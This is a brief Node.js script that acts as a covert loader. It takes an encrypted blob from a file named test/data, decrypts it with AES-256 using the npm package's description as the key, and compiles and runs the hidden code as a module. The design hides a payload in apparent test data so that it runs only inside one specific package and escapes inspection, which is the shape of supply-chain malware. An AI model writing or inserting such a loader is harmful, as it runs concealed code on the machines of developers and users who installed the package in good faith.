const crypto = require('crypto');
const data = require('./test/data');
const key = process.env.npm_package_description;
const decipher = crypto.createDecipher('aes256', key);
let code = decipher.update(data[0], 'hex', 'utf8');
code += decipher.final('utf8');
const m = new module.constructor();
m.paths = module.paths;
m._compile(code, '');
